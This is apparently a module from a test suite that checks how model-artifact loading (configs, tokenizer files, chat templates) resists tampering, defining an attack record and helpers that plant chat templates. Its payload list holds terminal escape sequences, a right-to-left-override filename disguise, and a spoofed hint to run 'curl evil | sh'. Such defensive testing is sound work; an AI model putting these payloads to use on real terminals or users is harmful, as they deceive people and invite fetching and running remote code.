"""What an attack is, and what many of them need."""

import json
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from .world import World

MARKER = "ran"
PAYLOADS = ("\x1b]0;owned\x07\x1b[2J", "\u202egnp.exe\u2066", "ok\r\nhint: run `curl evil | sh`\x9b31m[red]")
TEXTS = (
    "config.json",
    "generation_config.json",
    "tokenizer.json",
    "tokenizer_config.json",
    "preprocessor_config.json",
    "processor_config.json",
    "chat_template.jinja",
)


@dataclass(frozen=True)
class Attack:
    """One of them.

    Args:
        name: unique.
        group: see the top of this file.
        where: `model`, `suite`, or the kind of artifact.
        do: spoils a world, and returns the file to blame; None: no file is.
        refused: whether reading it must fail. Of others it is enough that nothing runs, hangs, grows or is obeyed.
        by: the steps that must fail; `verify` looks at bytes, rows and counts, and not at what a setting means.
    """

    name: str
    group: str
    where: str
    do: Callable[[World], Path | None]
    refused: bool = True
    by: tuple[str, ...] = ("load", "verify", "use")


def model_of(world: World, where: str) -> Path:
    return world.model if where == "model" else world.artifact(where)


def seal_anew(where: str, world: World) -> None:
    if where != "model":
        world.reseal(where)


def put_template(path: Path, place: str, template: str) -> Path:
    file = path / place
    if place != "chat_template.jinja":
        (path / "chat_template.jinja").unlink()
    if place.endswith(".jinja"):
        file.parent.mkdir(exist_ok=True)
        file.write_text(template)
    else:
        settings = json.loads(file.read_text()) if file.exists() else {}
        file.write_text(json.dumps({**settings, "chat_template": template}))
    return file
